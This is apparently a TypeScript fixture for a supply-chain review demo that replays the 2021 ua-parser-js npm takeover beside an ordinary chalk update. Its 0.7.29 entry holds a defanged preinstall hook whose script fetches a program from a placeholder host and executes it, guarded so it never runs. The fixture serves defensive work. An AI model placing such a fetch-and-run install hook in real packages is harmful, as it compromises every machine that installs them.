// What the demo replays: the takeover of ua-parser-js on 22 October 2021, beside an ordinary update of another
// package in the same pull request. Dates, versions, publishers and the hook are those of the public record.

/** The moment of the review: 75 minutes after the bad release came out, two and a half hours before it was removed. */
export const asOf = Date.parse('2021-10-22T13:30:00Z')

export interface RecordedRelease {
  readonly version: string
  readonly publishedAt: string
  readonly publisher: string
  readonly scripts?: Readonly<Record<string, string>>
  /** What is in it besides a manifest and a line of code. */
  readonly files?: Readonly<Record<string, string>>
}

export interface RecordedPackage {
  readonly name: string
  readonly base: string
  readonly head: string
  readonly releases: readonly RecordedRelease[]
}

const release =
  (publisher: string) =>
  (version: string, publishedAt: string): RecordedRelease => ({ version, publishedAt, publisher })
const faisalman = release('faisalman')
const sindresorhus = release('sindresorhus')

// The recorded script fetched a program and started it. This one has the same abilities, and never uses them.
const preinstall = `const { exec } = require('child_process')
const https = require('https')
if (process.argv.includes('--never')) {
  https.get('https://files.example.test/program', () => exec('./program'))
}
`

export const recording: readonly RecordedPackage[] = [
  {
    name: 'ua-parser-js',
    base: '0.7.28',
    head: '0.7.29',
    releases: [
      faisalman('0.7.24', '2021-02-12T02:07:00.000Z'),
      faisalman('0.7.25', '2021-04-02T09:18:00.000Z'),
      faisalman('0.7.26', '2021-04-02T15:15:00.000Z'),
      faisalman('0.7.27', '2021-04-02T16:54:00.000Z'),
      faisalman('0.7.28', '2021-04-10T00:57:00.000Z'),
      {
        ...faisalman('0.7.29', '2021-10-22T12:15:21.000Z'),
        scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
        files: { 'preinstall.js': preinstall }
      }
    ]
  },
  {
    name: 'chalk',
    base: '4.1.1',
    head: '4.1.2',
    releases: [
      sindresorhus('4.0.0', '2020-04-02T08:20:00.000Z'),
      sindresorhus('4.1.0', '2020-06-09T07:38:00.000Z'),
      sindresorhus('4.1.1', '2021-04-21T13:02:00.000Z'),
      sindresorhus('4.1.2', '2021-07-30T12:02:00.000Z')
    ]
  }
]
